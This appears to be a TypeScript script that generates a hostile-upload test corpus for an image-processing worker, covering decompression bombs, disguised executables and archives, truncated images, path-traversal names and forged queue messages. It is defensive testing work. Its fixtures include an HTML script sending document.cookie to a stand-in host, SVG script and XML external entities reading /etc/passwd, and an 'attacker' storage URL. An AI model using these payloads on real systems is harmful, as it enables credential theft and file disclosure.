/**
 * The hostile-input corpus: uploads and job messages built to break the worker, each with the final
 * record it must end with. Deterministic and offline: every file is generated here, from fixed pixels
 * and hand-written headers; nothing is downloaded. test/reliability/hostileCorpus.test.ts runs it
 * through the local host.
 *
 *   npx tsx scripts/make-hostile-corpus.ts [--out DIR]   writes the files and expected.json (default: <tmp>/hostile-corpus)
 */
import { crc32, deflateSync } from 'node:zlib';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { tmpdir } from 'node:os';
import { parseArgs } from 'node:util';
import sharp from 'sharp';

export type Expected = { status: 'succeeded' } | { status: 'failed'; code: string };

interface Common {
  id: string;
  /** What the case tries, for the test's table. */
  what: string;
  expected: Expected;
}

export type HostileCase = Common &
  (
    | {
        /** A file uploaded to the input container. */
        kind: 'upload';
        name: string;
        bytes: Buffer;
        metadata?: Record<string, string>;
        /**
         * Where the record lands: `blob` = results/<stored name>.json; `invalid-messages` = under
         * results/_invalid-messages/, for a name the worker refuses to address.
         */
        recordAt: 'blob' | 'invalid-messages';
        /** The blob name storage ends up with, when the storage SDK rewrites the requested one. */
        storedAs?: string;
        /** Facts the record's `source` must show. */
        source?: { width: number; height: number };
      }
    | {
        /** A job message written straight to the job queue (the test encodes it as host.json says). */
        kind: 'message';
        text: (inputContainer: string) => string;
      }
    | {
        /** Uploaded, then deleted; then its job is delivered. */
        kind: 'deleted';
        name: string;
        bytes: Buffer;
      }
    | {
        /** Uploaded, then overwritten with `newer`; then the job for the first version is delivered. */
        kind: 'overwritten';
        name: string;
        bytes: Buffer;
        newer: Buffer;
      }
  );

/** The most bytes the corpus run allows (MAX_BLOB_BYTES), so that one file can exceed it cheaply. */
export const CORPUS_MAX_BLOB_BYTES = 4 * 1024 * 1024;

const failed = (code: string): Expected => ({ status: 'failed', code });
const SUCCEEDED: Expected = { status: 'succeeded' };

/** Smooth colour fields with a per-seed tilt: distinct bytes for every case, identical on every run. */
function pixels(width: number, height: number, seed: number): Buffer {
  const data = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      data[i] = (x * 255) / Math.max(1, width - 1);
      data[i + 1] = (y * 255) / Math.max(1, height - 1);
      data[i + 2] = (seed * 37 + ((x + y) % 64)) % 256;
    }
  }
  return data;
}

const raw = (width: number, height: number, seed: number) => sharp(pixels(width, height, seed), { raw: { width, height, channels: 3 } });
const jpeg = (width: number, height: number, seed: number): Promise<Buffer> => raw(width, height, seed).jpeg({ quality: 80 }).toBuffer();
const png = (width: number, height: number, seed: number): Promise<Buffer> => raw(width, height, seed).png().toBuffer();

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A PNG written by hand: `rows` is the filtered scanline data (filter byte + pixels per row). */
export function handmadePng(width: number, height: number, bitDepth: number, colourType: number, rows: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([bitDepth, colourType, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Declares 50000x50000 RGB (2.5 gigapixels, 7.5 GB decoded) with one row of data behind it. */
const pngDeclaringGigapixels = (): Buffer => handmadePng(50_000, 50_000, 8, 2, Buffer.alloc(1 + 50_000 * 3));

/** A complete, valid 12000x12000 1-bit image (144 MP) that compresses to a few kilobytes: a decompression bomb. */
function pngBomb(): Buffer {
  const side = 12_000;
  const row = Buffer.alloc(1 + side / 8);
  return handmadePng(side, side, 1, 0, Buffer.concat(Array.from({ length: side }, () => row)));
}

/** A real JPEG whose frame header (SOF0/SOF2) is rewritten to claim 65500x65500. */
async function jpegClaimingHugeSize(): Promise<Buffer> {
  const bytes = Buffer.from(await jpeg(64, 48, 3));
  for (let i = 2; i + 9 < bytes.length;) {
    if (bytes[i] !== 0xff) throw new Error('make-hostile-corpus: unexpected JPEG layout');
    const marker = bytes[i + 1] ?? 0;
    if (marker === 0xc0 || marker === 0xc2) {
      bytes.writeUInt16BE(65_500, i + 5);
      bytes.writeUInt16BE(65_500, i + 7);
      return bytes;
    }
    i += 2 + bytes.readUInt16BE(i + 2);
  }
  throw new Error('make-hostile-corpus: no frame header in the JPEG');
}

/** The start of a 64-bit Linux executable. */
function elf(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  bytes.writeUInt16LE(2, 16); // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18); // x86-64
  return bytes;
}

/** A DOS stub pointing at a PE header, as every Windows executable starts. */
function portableExecutable(): Buffer {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x14c, 0x84); // i386
  return bytes;
}

/** A zip archive (stored, no compression) holding one text file. */
function zip(): Buffer {
  const name = Buffer.from('readme.txt');
  const content = Buffer.from('not an image\n');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, name, content, central, name, end]);
}

/** A one-page PDF with a line of text, cross-reference table and all. */
function pdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    '<< /Length 44 >>\nstream\nBT /F1 18 Tf 20 40 Td (Invoice 1042) Tj ET\nendstream',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let text = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(Buffer.byteLength(text));
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text);
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const HTML = `<!DOCTYPE html>
<html><head><title>Totally a PNG</title><script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script></head>
<body><img src="http://127.0.0.1:9/tracker.png"><iframe src="file:///etc/passwd"></iframe></body></html>
`;

const SVG_WITH_SCRIPT = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">
  <script type="text/javascript">fetch('http://127.0.0.1:9/exfiltrate')</script>
  <image xlink:href="http://127.0.0.1:9/remote.png" width="64" height="64"/>
  <image href="file:///etc/passwd" width="1" height="1"/>
  <use href="http://127.0.0.1:9/sprites.svg#icon"/>
  <foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://127.0.0.1:9/"/></foreignObject>
</svg>
`;

const SVG_WITH_ENTITIES = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text y="20">&secret;&b;</text></svg>
`;

/** 200 frames of 64x64: only the first may be decoded. */
function animatedGif(): Promise<Buffer> {
  const frames = 200;
  return sharp(pixels(64, 64 * frames, 11), { raw: { width: 64, height: 64 * frames, channels: 3, pageHeight: 64 } })
    .gif({ delay: Array.from({ length: frames }, () => 40), loop: 0 })
    .toBuffer();
}

const cmykJpeg = (): Promise<Buffer> => raw(64, 48, 12).toColourspace('cmyk').jpeg({ quality: 90 }).toBuffer();

function deepPng(): Promise<Buffer> {
  const width = 64;
  const height = 48;
  const samples = new Uint16Array(width * height * 3);
  for (let i = 0; i < width * height; i++) samples.set([(i % width) * 1000 + 7, Math.floor(i / width) * 1300 + 3, 40_000], i * 3);
  return sharp(samples, { raw: { width, height, channels: 3 } })
    .toColourspace('rgb16')
    .png()
    .toBuffer();
}

/** Stored landscape (120x80) with EXIF orientation 6: upright it is portrait, 80x120. */
const exifRotated = (): Promise<Buffer> => raw(120, 80, 14).jpeg({ quality: 80 }).withMetadata({ orientation: 6 }).toBuffer();

const truncate = (bytes: Buffer): Buffer => bytes.subarray(0, Math.floor(bytes.length * 0.55));

/** Over the corpus run's MAX_BLOB_BYTES; its size alone decides, before anything is decoded. */
async function oversized(): Promise<Buffer> {
  const head = await jpeg(32, 32, 15);
  return Buffer.concat([head, Buffer.alloc(CORPUS_MAX_BLOB_BYTES + 1024 - head.length)]);
}

const deepName = `${Array.from({ length: 60 }, (_, i) => `level-${i + 1}`).join('/')}/deep.jpg`;

const job = (container: string, fields: Record<string, unknown>): string =>
  JSON.stringify({ v: 1, container, blob: 'photo.jpg', etag: '"0x8DC0000000000AA"', contentLength: 1000, ...fields });

export async function hostileCorpus(): Promise<HostileCase[]> {
  const upload = (
    id: string,
    what: string,
    name: string,
    bytes: Buffer,
    expected: Expected,
    extra: Partial<Extract<HostileCase, { kind: 'upload' }>> = {},
  ): HostileCase => ({
    id,
    what,
    kind: 'upload',
    name,
    bytes,
    expected,
    recordAt: 'blob',
    ...extra,
  });
  const message = (id: string, what: string, text: (container: string) => string): HostileCase => ({
    id,
    what,
    kind: 'message',
    text,
    expected: failed('invalid_message'),
  });
  const photo = await jpeg(96, 64, 1);
  const screenshot = await png(96, 64, 2);
  return [
    upload('empty', 'zero bytes', 'hostile/empty.png', Buffer.alloc(0), failed('unsupported_media_type')),
    upload('truncated-jpeg', 'a JPEG cut off at 55%', 'hostile/truncated.jpg', truncate(await jpeg(320, 240, 4)), failed('corrupt_image')),
    upload('truncated-png', 'a PNG cut off at 55%', 'hostile/truncated.png', truncate(await png(320, 240, 5)), failed('corrupt_image')),
    upload('png-50000', 'a PNG header declaring 50000x50000', 'hostile/gigapixel.png', pngDeclaringGigapixels(), failed('image_too_large')),
    upload(
      'jpeg-65500',
      'a JPEG frame header claiming 65500x65500',
      'hostile/huge-header.jpg',
      await jpegClaimingHugeSize(),
      failed('image_too_large'),
    ),
    upload(
      'png-bomb',
      'a valid 12000x12000 PNG of a few KB (decompression bomb)',
      'hostile/bomb.png',
      pngBomb(),
      failed('image_too_large'),
    ),
    upload(
      'oversized',
      `a file over MAX_BLOB_BYTES (${CORPUS_MAX_BLOB_BYTES} bytes)`,
      'hostile/oversized.jpg',
      await oversized(),
      failed('file_too_large'),
    ),
    upload('elf', 'a Linux executable named .png', 'hostile/elf.png', elf(), failed('unsupported_media_type')),
    upload('pe', 'a Windows executable named .png', 'hostile/setup.png', portableExecutable(), failed('unsupported_media_type')),
    upload('zip', 'a zip archive named .png', 'hostile/archive.png', zip(), failed('unsupported_media_type')),
    upload('html', 'an HTML page with script named .png', 'hostile/page.png', Buffer.from(HTML), failed('unsupported_media_type')),
    // The name is not trusted either way: the bytes are a well-formed PDF, analysed as the one-page document it is.
    upload('pdf', 'a PDF named .png', 'hostile/document.png', pdf(), SUCCEEDED),
    upload(
      'svg-script',
      'an SVG with script and external references',
      'hostile/vector.png',
      Buffer.from(SVG_WITH_SCRIPT),
      failed('unsupported_media_type'),
    ),
    upload(
      'svg-entities',
      'an SVG with external and expanding XML entities',
      'hostile/entities.svg',
      Buffer.from(SVG_WITH_ENTITIES),
      failed('unsupported_media_type'),
    ),
    upload('gif-200', 'an animated GIF of 200 frames', 'hostile/animated.gif', await animatedGif(), SUCCEEDED, {
      source: { width: 64, height: 64 },
    }),
    upload('cmyk', 'a CMYK JPEG', 'hostile/cmyk.jpg', await cmykJpeg(), SUCCEEDED, { source: { width: 64, height: 48 } }),
    upload('png16', 'a 16-bit PNG', 'hostile/deep16.png', await deepPng(), SUCCEEDED, { source: { width: 64, height: 48 } }),
    upload('exif-6', 'a photo stored sideways with EXIF orientation 6', 'hostile/rotated.jpg', await exifRotated(), SUCCEEDED, {
      source: { width: 80, height: 120 },
    }),
    upload('one-pixel', 'a 1x1 image', 'hostile/pixel.png', await png(1, 1, 6), SUCCEEDED, { source: { width: 1, height: 1 } }),
    upload('panorama', 'a 20000x10 panorama', 'hostile/panorama.jpg', await jpeg(20_000, 10, 7), SUCCEEDED, {
      source: { width: 20_000, height: 10 },
    }),
    upload(
      'spaces',
      'a name with spaces and brackets',
      'hostile/my photos/holiday photo (1) [final].jpg',
      await jpeg(96, 64, 8),
      SUCCEEDED,
    ),
    upload('unicode', 'a name in four scripts and an emoji', 'hostile/фото/café 東京 صورة 📷.jpg', await jpeg(96, 64, 9), SUCCEEDED),
    upload('dot-dot', 'a name with a ".." segment', 'hostile/escape/../dotdot.jpg', await jpeg(96, 64, 10), SUCCEEDED, {
      storedAs: 'hostile/dotdot.jpg',
    }),
    upload('deep', 'a path 60 folders deep', deepName, await jpeg(96, 64, 13), SUCCEEDED),
    upload(
      'empty-segment',
      'a name with an empty segment ("//")',
      'hostile/double//slash.jpg',
      await jpeg(96, 64, 16),
      failed('invalid_blob_name'),
      {
        recordAt: 'invalid-messages',
      },
    ),
    upload('bad-profile', 'blob metadata naming a profile that is a path', 'hostile/profile.jpg', photo, failed('unknown_profile'), {
      metadata: { profile: '../../etc/passwd' },
    }),
    {
      id: 'deleted',
      what: 'a blob deleted between enqueue and processing',
      kind: 'deleted',
      name: 'hostile/deleted.jpg',
      bytes: photo,
      expected: failed('blob_not_found'),
    },
    {
      id: 'overwritten',
      what: 'a blob overwritten between enqueue and processing',
      kind: 'overwritten',
      name: 'hostile/overwritten.png',
      bytes: photo,
      newer: screenshot,
      expected: SUCCEEDED,
    },
    message('not-json', 'a job message that is not JSON', () => 'please analyse every file in the account'),
    message('not-object', 'a job message that is a JSON array', () => '[1,2,3]'),
    message('too-large', 'a job message of 6000 characters', (container) => job(container, { blob: `${'x'.repeat(6000)}.png` })),
    message('missing-fields', 'a job message without blob, etag and contentLength', (container) => JSON.stringify({ v: 1, container })),
    message('other-container', 'a job message naming another container', () => job('someone-elses-container', {})),
    message('other-account', 'a job message naming a blob in another storage account', (container) =>
      job(container, { blob: 'https://attacker.blob.core.windows.net/loot/secret.png' }),
    ),
    message('account-field', 'a job message with an extra field naming an account', (container) =>
      job(container, { account: 'attackeraccount' }),
    ),
    message('climb', 'a job message whose blob climbs out with ".."', (container) =>
      job(container, { blob: '../results/someone-else.png.json' }),
    ),
  ];
}

async function main(): Promise<void> {
  const { values } = parseArgs({ options: { out: { type: 'string', default: join(tmpdir(), 'hostile-corpus') } } });
  const out = resolve(values.out);
  const expected: Record<string, unknown>[] = [];
  for (const item of await hostileCorpus()) {
    const files: Record<string, Buffer> =
      item.kind === 'message'
        ? { [`messages/${item.id}.txt`]: Buffer.from(item.text('uploads')) }
        : item.kind === 'overwritten'
          ? { [`${item.id}/first/${item.name}`]: item.bytes, [`${item.id}/newer/${item.name}`]: item.newer }
          : { [`${item.kind === 'upload' ? 'uploads' : item.id}/${item.name}`]: item.bytes };
    for (const [path, bytes] of Object.entries(files)) {
      const target = join(
        out,
        path
          .split('/')
          .filter((part) => part !== '..' && part !== '')
          .join('/'),
      );
      mkdirSync(dirname(target), { recursive: true });
      writeFileSync(target, bytes);
    }
    expected.push({ id: item.id, what: item.what, kind: item.kind, files: Object.keys(files), expected: item.expected });
  }
  writeFileSync(join(out, 'expected.json'), `${JSON.stringify(expected, null, 2)}\n`);
  console.log(`wrote ${expected.length} cases to ${out}`);
}

// Run as a script (not when the test imports the corpus).
if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) await main();
